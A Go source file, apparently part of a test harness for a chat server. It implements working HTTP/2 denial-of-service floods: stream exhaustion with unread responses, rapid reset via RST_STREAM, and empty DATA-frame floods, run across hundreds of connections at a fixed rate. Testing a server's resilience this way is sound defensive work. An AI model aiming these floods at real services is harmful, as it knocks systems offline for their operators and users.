package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	floodRate  = 100_000_000 / 8 // bytes a second, of all connections of a flood
	floodFrom  = 40              // connections
	floodPiece = 16 << 10        // bytes that are written at a time
)

// flood is frames of HTTP/2 that are made ahead, and sent in pieces.
type flood struct {
	bytes.Buffer
	*http2.Framer
	header []byte // of each request, in HPACK
	stream uint32 // the last that was begun
}

// newFlood begins as a client does that has so much room for each answer.
func newFlood(window uint32, method, path string) *flood {
	f := new(flood)
	f.Framer = http2.NewFramer(&f.Buffer, nil)
	f.WriteString(http2.ClientPreface)
	f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	f.WriteSettingsAck()
	var header bytes.Buffer
	e := hpack.NewEncoder(&header)
	e.SetMaxDynamicTableSize(0) // so that the same bytes are good for each request
	for _, field := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "chat"}, {":path", path}} {
		e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	f.header = header.Bytes()
	return f
}

// ask begins a request.
func (f *flood) ask(ended bool) {
	f.stream = max(f.stream+2, 1) | 1
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: f.header, EndStream: ended, EndHeaders: true})
}

// send sends what was made, and makes room for more.
func (f *flood) send(c net.Conn) error {
	defer f.Reset()
	c.SetWriteDeadline(time.Now().Add(15 * time.Second))
	_, err := c.Write(f.Bytes())
	return err
}

// overHTTP2 runs do over n connections of the attacker, each anew when it is cut off, until
// ctx ends. What comes is read.
func (s *scene) overHTTP2(ctx context.Context, n int, do func(context.Context, net.Conn)) {
	var had, failed atomic.Int64
	each(n, func(int) {
		for ctx.Err() == nil {
			c, err := s.dialSecure(ctx, attacker, "h2")
			if err != nil {
				failed.Add(1)
				pause(ctx, 100*time.Millisecond)
				continue
			}
			had.Add(1)
			end := context.AfterFunc(ctx, func() { c.Close() })
			s.converse(ctx, c, do)
			end()
			c.Close()
		}
	})
	s.note("%d connections had, %d not", had.Load(), failed.Load())
}

// converse reads what comes while do writes, until the connection is cut off.
func (s *scene) converse(ctx context.Context, c net.Conn, do func(context.Context, net.Conn)) {
	ctx, cancel := context.WithCancel(ctx)
	read := make(chan struct{})
	go func() {
		defer close(read)
		defer cancel()
		io.Copy(io.Discard, c)
	}()
	do(ctx, c)
	c.Close()
	<-read
}

// inTurns sends what fill makes at the pace of a flood, until ctx ends or the connection
// does. It returns how many bytes were sent.
func inTurns(ctx context.Context, fill func() []byte, c io.Writer) (sent int64) {
	for begin := time.Now(); ctx.Err() == nil; {
		n, err := c.Write(fill())
		if sent += int64(n); err != nil {
			return sent
		}
		ahead := time.Duration(sent*floodFrom*int64(time.Second)/floodRate) - time.Since(begin)
		if ahead > 0 {
			pause(ctx, ahead)
		}
	}
	return sent
}

// unreadOverHTTP2 has more requests under way than a connection each would allow, and reads
// no answer.
func unreadOverHTTP2(ctx context.Context, s *scene) error {
	const connections, streams = 400, 250
	taken := s.fill(ctx, 300, func(int) string { return "pages" })
	s.note("%d messages of 16 KB filled the channel", taken)
	s.overHTTP2(ctx, connections, func(ctx context.Context, c net.Conn) {
		f := newFlood(0, "GET", "/sub/pages?since=all&timeout=0")
		for ctx.Err() == nil {
			for range streams {
				f.ask(true)
			}
			if f.send(c) != nil || !pause(ctx, time.Second) {
				return
			}
		}
	})
	return nil
}

// resets takes each request back before it is answered.
func resets(ctx context.Context, s *scene) error {
	var all atomic.Int64
	s.overHTTP2(ctx, floodFrom, func(ctx context.Context, c net.Conn) {
		f, begun := newFlood(1<<20, "GET", "/sub/room?since=now"), 0
		inTurns(ctx, func() []byte {
			if begun > 0 {
				f.Reset()
			}
			for f.Len() < floodPiece {
				f.ask(true)
				f.WriteRSTStream(f.stream, http2.ErrCodeCancel)
				begun++
			}
			return f.Bytes()
		}, c)
		all.Add(int64(begun))
	})
	s.note("%d requests were taken back", all.Load())
	return nil
}

// emptyData sends bodies that do not grow.
func emptyData(ctx context.Context, s *scene) error {
	var all atomic.Int64
	s.overHTTP2(ctx, floodFrom, func(ctx context.Context, c net.Conn) {
		f := newFlood(1<<20, "POST", "/pub/room")
		f.ask(false)
		first := true
		all.Add(inTurns(ctx, func() []byte {
			if first {
				first = false
				return f.Bytes()
			}
			f.Reset()
			for f.Len() < floodPiece {
				f.WriteData(f.stream, false, nil)
			}
			return f.Bytes()
		}, c))
	})
	s.note("%s of empty pieces", size(float64(all.Load())))
	return nil
}
